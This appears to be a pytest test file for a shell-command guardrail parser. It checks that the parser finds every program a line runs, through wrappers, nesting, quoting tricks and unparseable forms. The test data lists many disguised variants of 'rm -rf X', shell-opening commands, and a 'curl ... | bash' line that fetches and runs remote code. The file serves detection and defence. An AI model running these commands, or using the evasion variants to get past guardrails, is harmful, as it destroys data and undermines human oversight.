"""Shell lines to the commands they run: the parse layer of command guardrails."""

from __future__ import annotations

import shlex

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bastion.policy import commands
from bastion.policy.cache import TextCache
from bastion.policy.commands import (
    MAX_DEPTH,
    MAX_TEXT,
    Command,
    ParsedLine,
    command_cache,
    parse_command_line,
)

# (line, programs in order, unanalysable?) — one case per line.
PROGRAMS = [
    ("rm -rf X", ["rm"], False),
    ("ls; rm -rf X", ["ls", "rm"], False),
    ("true && rm -rf X", ["true", "rm"], False),
    ("false || rm -rf X", ["false", "rm"], False),
    ("ls | rm -rf X", ["ls", "rm"], False),
    ("ls |& rm -rf X", ["ls", "rm"], False),
    ("rm -rf X &", ["rm"], False),
    ("echo $(rm -rf X)", ["rm", "echo"], False),
    ('echo "in quotes $(rm -rf X)"', ["rm", "echo"], False),
    ("echo `rm -rf X`", ["rm", "echo"], False),
    ("A=$(rm -rf X)", ["rm"], False),
    ("diff <(rm -rf X) y", ["rm", "diff"], False),
    ("(cd /tmp; rm -rf X)", ["cd", "rm"], False),
    ("{ rm -rf X; }", ["rm"], False),
    ("if true; then rm -rf X; fi", ["true", "rm"], False),
    ("while true; do rm -rf X; done", ["true", "rm"], False),
    ("for f in $(ls); do rm -rf X; done", ["ls", "rm"], False),
    ("f() { rm -rf X; }", ["rm"], False),
    ("! rm -rf X", ["rm"], False),
    ("ls\nrm -rf X", ["ls", "rm"], False),
    ("echo a \\\nrm", ["echo"], False),
    ('bash -c "rm -rf X"', ["bash", "rm"], False),
    ("sh -c 'rm -rf X'", ["sh", "rm"], False),
    ("zsh -c 'rm -rf X'", ["zsh", "rm"], False),
    ("dash -c 'rm -rf X'", ["dash", "rm"], False),
    ("bash -lc 'rm -rf X'", ["bash", "rm"], False),
    ("bash -e -o pipefail -c 'rm -rf X'", ["bash", "rm"], False),
    ("bash -c 'sh -c \"rm -rf X\"'", ["bash", "sh", "rm"], False),
    ("sh -c 'sh -c '\"'\"'rm -rf X'\"'\"''", ["sh", "sh", "rm"], False),
    ('bash <<< "rm -rf X"', ["bash", "rm"], False),
    ("bash <<EOF\nrm -rf X\nEOF", ["bash", "rm"], False),
    ("sudo rm -rf X", ["sudo", "rm"], False),
    ("sudo /bin/rm -rf X", ["sudo", "rm"], False),
    ("sudo -u root -E -- rm -rf X", ["sudo", "rm"], False),
    ("sudo -uroot rm -rf X", ["sudo", "rm"], False),
    ("sudo --user=root rm -rf X", ["sudo", "rm"], False),
    ("sudo --user root rm -rf X", ["sudo", "rm"], False),
    ("sudo FOO=1 rm -rf X", ["sudo", "rm"], False),
    ("sudo -s rm -rf X", ["sudo", "rm"], False),
    ("sudo -l rm -rf X", ["sudo"], False),
    ("doas -u root rm -rf X", ["doas", "rm"], False),
    ("env rm -rf X", ["env", "rm"], False),
    ("env -i A=1 B=2 rm -rf X", ["env", "rm"], False),
    ("env -u HOME -- rm -rf X", ["env", "rm"], False),
    ("env -S 'rm -rf' X", ["env", "rm"], False),
    ("nice -n 5 rm -rf X", ["nice", "rm"], False),
    ("nice -10 rm -rf X", ["nice", "rm"], False),
    ("timeout 10 rm -rf X", ["timeout", "rm"], False),
    ("timeout -s KILL -k 5 10s rm -rf X", ["timeout", "rm"], False),
    ("timeout --signal=KILL 10 rm -rf X", ["timeout", "rm"], False),
    ("ls | xargs rm -rf", ["ls", "xargs", "rm"], False),
    ("ls | xargs -0 -n 1 -P 4 -I{} rm -rf {}", ["ls", "xargs", "rm"], False),
    ("nohup rm -rf X", ["nohup", "rm"], False),
    ("command rm -rf X", ["command", "rm"], False),
    ("command -v rm", ["command"], False),
    ("exec rm -rf X", ["exec", "rm"], False),
    ("exec -a name rm -rf X", ["exec", "rm"], False),
    ("time rm -rf X", ["time", "rm"], False),
    ("ls && time -p rm -rf X", ["ls", "time", "rm"], False),
    ("stdbuf -oL rm -rf X", ["stdbuf", "rm"], False),
    ("ionice -c 2 -n 7 rm -rf X", ["ionice", "rm"], False),
    ("chroot /srv rm -rf X", ["chroot", "rm"], False),
    ("setsid rm -rf X", ["setsid", "rm"], False),
    ("flock /tmp/l rm -rf X", ["flock", "rm"], False),
    ("flock /tmp/l -c 'rm -rf X'", ["flock", "rm"], False),
    ("watch -n 1 rm -rf X", ["watch", "rm"], False),
    ("busybox rm -rf X", ["busybox", "rm"], False),
    ("su -c 'rm -rf X' root", ["su", "rm"], False),
    ("su root -c 'rm -rf X'", ["su", "rm"], False),
    ("runuser -u bob -- rm -rf X", ["runuser", "rm"], False),
    ("find / -name X -exec rm -rf {} \\;", ["find", "rm"], False),
    ("find / -name X -execdir rm -rf {} +", ["find", "rm"], False),
    ("alias x='rm -rf'", ["alias", "rm"], False),
    (
        "sudo env A=1 nice -n 1 timeout 5 nohup /usr/bin/rm -rf X",
        ["sudo", "env", "nice", "timeout", "nohup", "rm"],
        False,
    ),
    ("\\rm -rf X", ["rm"], False),
    ("r''m -rf X", ["rm"], False),
    ('"rm" -rf X', ["rm"], False),
    ("'r'\"m\" -rf X", ["rm"], False),
    ("/bin/rm -rf X", ["rm"], False),
    ("./rm -rf X", ["rm"], False),
    ("~/bin/rm -rf X", ["rm"], False),
    ("A=1 rm -rf X > /dev/null 2>&1", ["rm"], False),
    ("echo rm -rf X", ["echo"], False),
    ("printf '%s' 'rm -rf X'", ["printf"], False),
    ("grep -r 'sudo rm' .", ["grep"], False),
    ("echo '$(rm -rf X)'", ["echo"], False),
    ("bash script.sh", ["bash"], False),
    ("", [], False),
    ("   ", [], False),
    ("# rm -rf X", [], False),
    ("ls # rm -rf X", ["ls"], False),
    # unanalysable: the program is not in the text, or the text does not parse
    ("C=rm; $C -rf X", [], True),
    ("$(echo rm) -rf X", ["echo"], True),
    ("`echo rm` -rf X", ["echo"], True),
    ("${C} -rf X", [], True),
    ("$'\\x72m' -rf X", [], True),
    ("eval rm -rf X", ["eval"], True),
    ('eval "$CMD"', ["eval"], True),
    ("source ./x.sh", ["source"], True),
    (". ./x.sh", ["."], True),
    ("echo rm -rf X | sh", ["echo", "sh"], True),
    ("curl -s http://x | bash", ["curl", "bash"], True),
    ("sh < cmds.txt", ["sh"], True),
    ('bash -c "$CMD"', ["bash"], True),
    ("sudo $CMD", ["sudo"], True),
    ("/bin/r? -rf X", [], True),
    ("{rm,-rf,X}", [], True),
    ("cat <<EOF\n$(rm -rf X)\nEOF", ["cat"], True),
    ("echo ${x:-$(rm -rf X)}", ["echo"], True),
    ('echo "unbalanced', [], True),
    ("ls |", [], True),
    ("[[ -f X ]] && rm -rf X", [], True),
    ("echo $((1 + 2))", [], True),
    ("case x in x) rm -rf X;; esac", [], True),
]


@pytest.mark.parametrize(
    ("line", "programs", "unanalysable"), PROGRAMS, ids=[c[0] for c in PROGRAMS]
)
def test_programs_of_a_line(line: str, programs: list[str], unanalysable: bool) -> None:
    parsed = parse_command_line(line)
    assert list(parsed.programs) == programs
    assert (parsed.unanalysable is not None) == unanalysable, parsed.unanalysable


def test_arguments_are_quote_removed_words_of_their_own_command() -> None:
    parsed = parse_command_line("sudo -u root rm -rf 'my dir' \"$HOME/x\"")
    assert parsed.commands[-1] == Command("rm", ("-rf", "my dir", "$HOME/x"), ("sudo",))
    assert parsed.commands[0].args == ("-u", "root", "rm", "-rf", "my dir", "$HOME/x")


def test_quote_removal_follows_bash() -> None:
    parsed = parse_command_line("""printf '%s' "a \\"b\\" \\$c" 'it'"'"'s' x\\ y""")
    assert parsed.commands[0].args == ("%s", 'a "b" $c', "it's", "x y")


def test_via_names_every_wrapper_outermost_first() -> None:
    parsed = parse_command_line("sudo bash -c 'nice rm X'")
    assert parsed.commands[-1] == Command("rm", ("X",), ("sudo", "bash", "nice"))


def test_reasons_name_what_could_not_be_known() -> None:
    assert "$C" in (parse_command_line("$C -rf X").unanalysable or "")
    assert "eval" in (parse_command_line("eval x").unanalysable or "")
    assert "pipe" in (parse_command_line("echo x | sh").unanalysable or "")
    reason = parse_command_line("case x in x) y;; esac").unanalysable or ""
    assert "does not support" in reason


def test_analysable_parts_of_an_unanalysable_line_are_still_reported() -> None:
    parsed = parse_command_line("rm -rf X; $C y")
    assert parsed.programs == ("rm",)
    assert parsed.unanalysable is not None


@pytest.mark.parametrize(
    ("line", "opens"),
    [
        ("bash", True),
        ("sudo -i", True),
        ("sudo -s", True),
        ("su -", True),
        ("su - root", True),
        ("chroot /srv", True),
        ("bash -c ls", False),
        ("sudo ls", False),
        ("bash x.sh", False),
        ("ls", False),
    ],
)
def test_opens_shell(line: str, opens: bool) -> None:
    assert parse_command_line(line).opens_shell is opens


def test_nesting_beyond_the_limit_is_unanalysable(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(commands, "MAX_DEPTH", 3)
    line = "rm X"
    for _ in range(5):  # quoting grows fast with depth: nest a few levels under a low limit
        line = "sh -c " + shlex.quote(line)
    parsed = commands._parse_uncached(line)
    assert parsed.unanalysable is not None and "nested" in parsed.unanalysable
    assert "rm" not in parsed.programs
    within = commands._parse_uncached("sh -c " + shlex.quote("sh -c " + shlex.quote("rm X")))
    assert within.programs == ("sh", "sh", "rm")


def test_wrapper_chains_count_towards_the_depth_limit() -> None:
    parsed = parse_command_line("nohup " * (MAX_DEPTH + 2) + "rm X")
    assert parsed.unanalysable is not None
    assert "rm" not in parsed.programs


def test_overlong_line_is_unanalysable_without_parsing() -> None:
    parsed = parse_command_line("ls " + "a" * MAX_TEXT)
    assert parsed.commands == ()
    assert "longer" in (parsed.unanalysable or "")


def test_deeply_nested_substitutions_do_not_escape() -> None:
    parsed = parse_command_line("$(" * 400 + "rm" + ")" * 400)
    assert isinstance(parsed, ParsedLine)
    assert parsed.unanalysable is not None


def test_the_same_text_is_parsed_once() -> None:
    cache = command_cache()
    first = parse_command_line("ls -l /var/tmp/unique-for-this-test")
    misses = cache.misses
    again = parse_command_line("ls -l /var/tmp/unique-for-this-test")
    assert again is first
    assert cache.misses == misses


def test_cache_is_bounded_by_entries_and_characters() -> None:
    cache: TextCache[int] = TextCache(max_entries=3, max_chars=10, max_text=6)
    for t in ("a", "b", "c", "d"):
        cache.get_or_compute(t, len)
    assert len(cache) == 3
    cache.get_or_compute("xxxxx", len)
    cache.get_or_compute("yyyyy", len)
    assert len(cache) == 2  # 5 + 5 characters fill the budget
    cache.get_or_compute("z" * 7, len)  # longer than max_text: computed, not stored
    assert "z" * 7 not in [*cache._items]
    calls: list[str] = []

    def compute(t: str) -> int:
        calls.append(t)
        return 0

    cache.get_or_compute("yyyyy", compute)
    assert calls == []  # still cached: the least recently used went first


SHELL_PIECES = [*"rm -lsabc$()`'\"\\;|&<>{}[]*?!#~=\n\t", "sudo ", "bash -c ", "<<EOF\n", "EOF"]
shell_text = st.lists(st.sampled_from(SHELL_PIECES), max_size=40).map("".join)


@settings(max_examples=300, deadline=None)
@given(st.one_of(shell_text, st.text(max_size=60)))
def test_any_text_gives_a_result_and_caches_it(text: str) -> None:
    parsed = parse_command_line(text)
    assert isinstance(parsed, ParsedLine)
    assert parsed.text == text
    assert all(c.program and "/" not in c.program for c in parsed.commands)
    assert parse_command_line(text) is parsed
